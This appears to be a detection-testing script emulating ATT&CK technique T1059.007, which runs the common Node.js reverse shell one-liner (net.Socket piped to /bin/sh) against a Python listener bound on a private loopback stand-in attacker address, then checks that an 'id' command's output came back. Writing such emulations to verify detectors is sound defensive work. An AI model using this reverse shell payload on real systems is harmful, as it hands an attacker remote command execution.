# technique: T1059.007
# tactic: execution
# name: Node.js one-liner reverse shell (net.Socket piped to /bin/sh) to a listener
# expect: detected
. "$EMULATION_LIB"
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
need node python3 ip
loopback_up
# The "attacker" address lives on this namespace's private loopback, so nothing leaves the box.
ip addr add 198.51.100.7/32 dev lo

# Attacker side (in real life another machine): a one-shot listener that types a command into the
# shell and records the answer. It calls listen() without bind(), so the kernel picks the port and this
# stand-in for the attacker's machine raises no alert of its own: what fires is the victim side.
python3 -c '
import socket
s = socket.socket(); s.listen(1); s.settimeout(8)
open("port.tmp", "w").write(str(s.getsockname()[1])); __import__("os").rename("port.tmp", "port")
c, _ = s.accept(); c.settimeout(5)
c.sendall(b"id; exit\n")
out = b""
try:
    while True:
        d = c.recv(4096)
        if not d: break
        out += d
except socket.timeout:
    pass
open("session.log", "wb").write(out)
' &
listener=$!
trap 'kill "$listener" 2>/dev/null || true' EXIT
i=0; while [ ! -e port ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
port=$(cat port)

# Victim side: the common JavaScript reverse shell (revshells.com "node.js").
node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect('"$port"',"198.51.100.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();' || true

wait $listener || true
grep -q 'uid=' session.log
